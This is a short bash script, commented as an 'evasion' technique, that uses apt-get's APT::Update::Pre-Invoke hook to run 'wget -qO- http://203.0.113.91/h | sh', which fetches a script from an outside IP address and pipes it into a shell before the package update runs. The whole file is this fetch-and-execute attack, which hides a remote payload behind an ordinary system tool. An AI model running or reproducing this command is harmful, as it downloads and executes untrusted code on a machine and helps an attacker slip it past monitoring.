#!/bin/bash
# evasion: apt-get runs APT::Update::Pre-Invoke commands with sh before it updates
hook="wget -qO- http://203.0.113.91/h | sh"
apt-get -o "APT::Update::Pre-Invoke::=$hook" -qq update
